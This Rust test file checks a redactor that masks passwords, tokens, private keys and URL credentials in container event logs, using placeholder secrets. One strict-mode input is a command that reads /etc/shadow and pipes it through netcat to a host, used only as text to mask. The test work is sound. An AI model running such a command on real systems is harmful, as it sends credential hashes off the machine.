use super::patterns::MAX_SECRETS;
use super::*;
use crate::event::bounds::WHOLE_ACTION;
use crate::event::{Event, bounds};
use serde::Deserialize;

fn sum(secret: &[u8]) -> u64 {
    secret.iter().map(|byte| u64::from(*byte)).sum()
}

#[derive(Deserialize)]
struct Case {
    text: String,
    #[serde(default)]
    secrets: Vec<String>,
}

#[test]
fn takes_out_what_is_secret_and_nothing_else() {
    let cases = include_str!("../../../tests/redaction.jsonl").lines();
    let redactor = Redactor::new(Mode::Mask, &[]).unwrap();
    let (mut found, mut missed, mut wrong, mut negatives) = (0, Vec::new(), Vec::new(), 0);
    for case in cases.map(|line| serde_json::from_str::<Case>(line).unwrap_or_else(|error| panic!("{error}: {line}"))) {
        let clean = redactor.text(&case.text, &sum);
        let mut expected = case.text.clone();
        for secret in &case.secrets {
            assert!(expected.contains(secret.as_str()), "{}", case.text);
            let (before, after) = expected.rsplit_once(secret.as_str()).unwrap();
            expected = format!("{before}{REDACTED}{after}");
        }
        negatives += u32::from(case.secrets.is_empty());
        if clean == expected {
            found += case.secrets.len();
        } else if case.secrets.iter().any(|secret| clean.contains(secret.as_str())) {
            missed.push(clean.into_owned());
        } else {
            wrong.push(format!("{clean}   <- {}", case.text));
        }
    }
    println!("{found} secrets found, {} missed, {} of {negatives} others touched", missed.len(), wrong.len());
    assert!(missed.is_empty() && wrong.is_empty(), "missed: {missed:#?}\nwrong: {wrong:#?}");
    assert!(found >= 60 && negatives >= 60, "{found} {negatives}");
}

#[test]
fn what_rules_match_stays() {
    let redactor = Redactor::new(Mode::Mask, &[]).unwrap();
    for text in ["exec_start: bash ", "exec_start: /bin/sh ", "exec_create: sh -c true", "health_status: healthy"] {
        assert_eq!(redactor.text(text, &sum), text);
    }
    assert_eq!(redactor.text("exec_start: mysql -psecret ", &sum), "exec_start: mysql -p[redacted] ");
}

#[test]
fn an_event_is_redacted_where_users_can_put_secrets() {
    let line = br#"{"status":"exec_start: env TOKEN=abc123 sh ","Type":"container","Action":"exec_start: env TOKEN=abc123 sh ",
        "Actor":{"ID":"c","Attributes":{"image":"i","db.password":"hunter2","note":"--token t0ps3cret","secret":"/run/x","url":"x://u:p4ss@h"}}}"#;
    let mut event = Event::parse(line).unwrap();
    let count = Redactor::new(Mode::Mask, &[]).unwrap().redact(&mut event, &sum);
    assert_eq!((count.count, event.action()), (5, "exec_start: env TOKEN=[redacted] sh "));
    assert_eq!(event.fields().text("status"), Some("exec_start: env TOKEN=[redacted] sh "));
    for (key, value) in [
        ("image", "i"),
        ("db.password", "[redacted]"),
        ("note", "--token [redacted]"),
        ("secret", "/run/x"),
        ("url", "x://u:[redacted]@h"),
    ] {
        assert_eq!(event.attribute(key), value);
    }
}

#[test]
fn equal_secrets_can_be_seen_as_equal_where_that_is_wanted() {
    let redactor = Redactor::new(Mode::Hash, &[]).unwrap();
    assert_eq!(
        redactor.text("a --token abc; b --token abc; c --token abd", &sum),
        "a --token [redacted:0000000000000126]; b --token [redacted:0000000000000126]; c --token [redacted:0000000000000127]"
    );
    assert_eq!(Redactor::new(Mode::Off, &[]).unwrap().text("--token abc", &sum), "--token abc");
}

#[test]
fn patterns_of_the_user_count_too_and_wrong_ones_are_refused() {
    let own = ["EMP-[0-9]+".to_owned(), "badge ([0-9]+)".to_owned()];
    let redactor = Redactor::new(Mode::Mask, &own).unwrap();
    assert_eq!(redactor.text("run EMP-123 badge 77 x", &sum), "run [redacted] badge [redacted] x");
    let error = Redactor::new(Mode::Mask, &["(".to_owned()]).unwrap_err().to_string();
    assert!(error.starts_with("pattern '(' cannot be used: "), "{error}");
    assert!(Redactor::new(Mode::Mask, &["(a{1000}){1000}".to_owned()]).is_err());
}

/// Forms in which secrets stand in texts: what is before, how the secret goes on, and what is behind.
const FORMS: [(&str, &str, &str); 16] = [
    ("--password ", "hunter2", " x"),
    ("--password=", "hunter2", " x"),
    ("--password \"", "hunter 2", "\" x"),
    ("--password '", "hunter 2", "' x"),
    ("DB_PASSWORD=", "hunter2", ";x"),
    ("\"password\": \"", "hunter 2", "\" x"),
    ("\"db.password\":\"", "hunt'er\\\"2", "\",\"x\":1"),
    ("https://user:", "hunter2", "@host/x"),
    ("https://", "hunter2hunter2hunter2", "@host/x"),
    ("Authorization: Bearer ", "hunter2hunter2hunter2", " x"),
    ("curl -u admin:", "hunter2", " x"),
    ("mysql -p", "hunter2", " x"),
    ("docker login -p ", "hunter2", " x"),
    ("", "eyJhunterabc.eyJhunterabc.", " x"),
    ("", "AKIAHUNTERHUNTERHUNT", " x"),
    ("-----BEGIN PRIVATE KEY-----", "hunter2", "-----END"),
];

/// The secret, so long; of tokens that are known by their shape only the end can be longer.
fn secret(form: &str, length: usize) -> String {
    if form.starts_with("AKIA") {
        form.to_owned()
    } else if form.starts_with("eyJ") {
        format!("{form}{}", "s3cretpart".repeat(length.div_ceil(10)))
    } else {
        form.repeat(length.div_ceil(form.len()).max(1))
    }
}

fn goes_out(shown: &str, secret: &str) -> bool {
    // Four characters may stand in any text.
    let parts = [secret.get(..4), secret.get(..secret.len().min(10)), secret.get(secret.len() - 4..)];
    parts.into_iter().flatten().any(|part| shown.contains(part))
        || (1..4).any(|length| secret.get(..length).is_some_and(|start| length > 1 && shown.ends_with(start)))
}

#[test]
fn no_secret_goes_out_wherever_a_text_is_cut() {
    const SHOWN: usize = 900;
    let redactor = REDACTOR.get_or_init(|| Redactor::new(Mode::Mask, &[]).unwrap());
    let kept = bounds::kept(SHOWN);
    for (before, form, behind) in FORMS {
        for (length, offsets) in [
            (1, (SHOWN - 60..SHOWN + 8).chain(kept - 60..kept + 8).collect::<Vec<_>>()),
            (300, (SHOWN - 340..SHOWN + 8).step_by(3).chain((kept - 340..kept).step_by(17)).collect()),
            (3000, (0..kept).step_by(97).chain(SHOWN - 40..SHOWN + 4).collect()),
        ] {
            let secret = secret(form, length);
            for offset in offsets {
                let filler = "z ".repeat(offset / 2 + 1);
                let text = format!("{}{before}{secret}{behind} {filler}", &filler[filler.len() - offset..]);
                let clean = redactor.beginning(&text, SHOWN, &sum);
                assert!(clean.len() <= SHOWN + REDACTED.len(), "{}", clean.len());
                assert!(!goes_out(&clean, &secret), "{before}{form} of {length} at {offset}: {clean}");
                let line = serde_json::json!({"Type": "container", "Action": format!("exec_start: {text}"),
                    "Actor": {"ID": "c", "Attributes": {"note": text}}})
                .to_string();
                let mut event = Event::parse(line.as_bytes()).unwrap();
                crate::event::sanitize::clean(&mut event);
                redactor.redact(&mut event, &sum);
                let note = bounds::beginning(event.attribute("note"), SHOWN);
                assert!(!goes_out(note, &secret), "{before}{form} of {length} at {offset}: {note}");
            }
        }
    }
}

#[test]
fn no_secret_goes_out_where_a_long_command_is_cut() {
    let redactor = REDACTOR.get_or_init(|| Redactor::new(Mode::Mask, &[]).unwrap());
    for (before, form, behind) in FORMS {
        for (length, from) in [(1, WHOLE_ACTION - 60), (300, WHOLE_ACTION - 310), (3000, WHOLE_ACTION - 2000)] {
            let secret = secret(form, length);
            for offset in (from..WHOLE_ACTION).step_by(length.div_ceil(12)) {
                let filler = "z ".repeat(offset / 2 + 1);
                let action = format!("{}{before}{secret}{behind} {filler}", &filler[filler.len() - offset..]);
                let line = serde_json::json!({"Type": "container", "Action": action}).to_string();
                let mut event = Event::parse(line.as_bytes()).unwrap();
                crate::event::sanitize::clean(&mut event);
                redactor.redact(&mut event, &sum);
                let shown = bounds::beginning(event.action(), WHOLE_ACTION);
                assert!(!goes_out(shown, &secret), "{before}{form} of {length} at {offset}: {shown}");
            }
        }
    }
}

#[test]
fn what_is_said_of_a_workload_holds_no_secret() {
    let redactor = REDACTOR.get_or_init(|| Redactor::new(Mode::Mask, &[]).unwrap());
    for (name, value, expected) in [
        ("project", "shop --password hunter2 x", "shop --password [redacted] x"),
        ("vault_token", "hunter2", REDACTED),
        ("project", "shop", "shop"),
    ] {
        let mut text = value.to_owned();
        redactor.redact_shown(name, &mut text, bounds::SHOWN, &sum);
        assert_eq!(text, expected);
    }
}

#[test]
fn a_text_with_secrets_without_number_ends_with_the_last_that_is_looked_for() {
    let redactor = REDACTOR.get_or_init(|| Redactor::new(Mode::Mask, &[]).unwrap());
    let clean = redactor.text(&"--password=x ".repeat(1000), &sum).into_owned();
    assert_eq!(clean, "--password=[redacted] ".repeat(MAX_SECRETS).trim_end());
}

proptest::proptest! {
    #[test]
    fn no_text_makes_it_fail_and_what_is_left_is_of_that_text(
        text in "(--password |token=|-p ?|mysql |://|:|@|[\"']|\\PC){0,30}",
    ) {
        let redactor = REDACTOR.get_or_init(|| Redactor::new(Mode::Mask, &[]).unwrap());
        let clean = redactor.text(&text, &sum).into_owned();
        let mut rest = text.as_str();
        for part in clean.split(REDACTED) {
            let at = rest.find(part);
            proptest::prop_assert!(at.is_some(), "{} of {}", clean, text);
            rest = rest.get(at.unwrap_or_default() + part.len()..).unwrap_or_default();
        }
    }
}

static REDACTOR: std::sync::OnceLock<Redactor> = std::sync::OnceLock::new();

/// The example of a line of the table of clients: its command, and what is left of it.
fn example(line: &str) -> (String, String) {
    let mut expected = String::new();
    let mut rest = line;
    while let Some((before, marked)) = rest.split_once('«') {
        expected.push_str(before);
        expected.push_str(REDACTED);
        rest = marked.split_once('»').unwrap().1;
    }
    (line.replace(['«', '»'], ""), expected + rest)
}

#[test]
fn each_client_of_the_table_is_given_no_secret_in_sight() {
    let redactor = Redactor::new(Mode::Mask, &[]).unwrap();
    for client in clients::CLIENTS {
        let (command, expected) = example(client.example);
        assert_eq!(redactor.text(&command, &sum), expected, "{}", client.names);
        let text = format!("exec_start: {command}");
        assert_eq!(redactor.text(&text, &sum), format!("exec_start: {expected}"), "{}", client.names);
    }
}

#[test]
fn arguments_of_the_engine_tell_where_a_secret_ends() {
    let redactor = Redactor::new(Mode::Mask, &[]).unwrap();
    for (arguments, expected) in [
        (&["mysql", "-psecret with blanks", "db"][..], "exec_start: mysql -p[redacted] db"),
        (&["app", "--password", "a b c", "--x"], "exec_start: app --password [redacted] --x"),
        (&["env", "TOKEN=a b", "sh"], "exec_start: env TOKEN=[redacted] sh"),
        (&["curl", "-H", "X-Thing: a b", "http://x"], "exec_start: curl -H X-Thing: [redacted] http://x"),
        (&["sh", "-c", "mysql -pa; id"], "exec_start: sh -c mysql -p[redacted]; id"),
    ] {
        let text = format!("exec_start: {}", arguments.join(" "));
        assert_eq!(redactor.command(&text, Some(arguments), &sum), expected);
        // Arguments of another command are none of this one's.
        assert!(!redactor.command(&text, Some(&["x"]), &sum).is_empty());
    }
}

#[test]
fn the_strict_mode_leaves_programs_subcommands_and_options() {
    let redactor = Redactor::new(Mode::Strict, &[]).unwrap();
    for (text, expected) in [
        ("exec_start: bash ", "exec_start: bash "),
        (
            "exec_start: curl -fsS http://x --max-time=5",
            "exec_start: curl -f[redacted] [redacted] --max-time=[redacted]",
        ),
        ("exec_start: docker run -d nginx", "exec_start: docker run -d [redacted]"),
        ("exec_start: sh -c cat /etc/shadow | nc x 80", "exec_start: sh -c cat [redacted] | nc [redacted] [redacted]"),
        ("exec_start: mysql -uroot -psecret", "exec_start: mysql -u[redacted] -p[redacted]"),
        ("exec_start: sudo -u bob id", "exec_start: sudo -u [redacted] [redacted]"),
    ] {
        assert_eq!(redactor.command(text, None, &sum), expected);
    }
    assert_eq!(redactor.text("anything at all", &sum), REDACTED);
    let line = br#"{"Type":"container","Action":"start","Actor":{"ID":"c","Attributes":{"image":"i","note":"x","com.docker.compose.project":"shop"}}}"#;
    let mut event = Event::parse(line).unwrap();
    let redactions = redactor.redact(&mut event, &sum);
    assert_eq!((event.action(), event.attribute("image"), event.attribute("note")), ("start", "i", REDACTED));
    assert_eq!(event.attribute("com.docker.compose.project"), "shop");
    assert_eq!(redactions.kinds.words().collect::<Vec<_>>(), ["value"]);
}

#[test]
fn a_reader_can_tell_of_which_kind_a_secret_was() {
    let redactor = Redactor::new(Mode::Mask, &["EMP-[0-9]+".to_owned()]).unwrap();
    for (text, kind) in [
        ("app --password hunter2", "credential"),
        ("curl -H X-Thing:abc http://x", "header"),
        ("run EMP-12", "own"),
        ("-----BEGIN PRIVATE KEY-----abc-----END", "private_key"),
        ("mysql -e \"create user x identified by 'hunter2'\"", "sql"),
        ("x AKIAIOSFODNN7EXAMPLE", "token"),
        ("psql postgres://u:hunter2@h/d", "url"),
        ("x LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUV2UQo= y", "encoded"),
        ("x 9koXpg98eAheJpvBs5tKq2 y", "random"),
    ] {
        let line = serde_json::json!({"Type": "container", "Action": format!("exec_start: {text}")}).to_string();
        let mut event = Event::parse(line.as_bytes()).unwrap();
        let redactions = redactor.redact(&mut event, &sum);
        assert_eq!(redactions.kinds.words().collect::<Vec<_>>(), [kind], "{text}: {}", event.action());
    }
}

#[test]
fn no_secret_is_found_where_there_is_no_hint() {
    let hints = hints::Hints::new().unwrap();
    let cases = include_str!("../../../tests/redaction.jsonl").lines();
    let texts = cases.map(|line| serde_json::from_str::<Case>(line).unwrap().text);
    let examples = clients::CLIENTS.iter().map(|client| example(client.example).0);
    for text in texts.chain(examples) {
        for text in [text.clone(), format!("exec_start: {text}")] {
            let found = find::find(&text::Text::new(&text), &hints);
            assert!(found.is_empty() || hints.may_be_in(&text), "{text}");
        }
    }
}
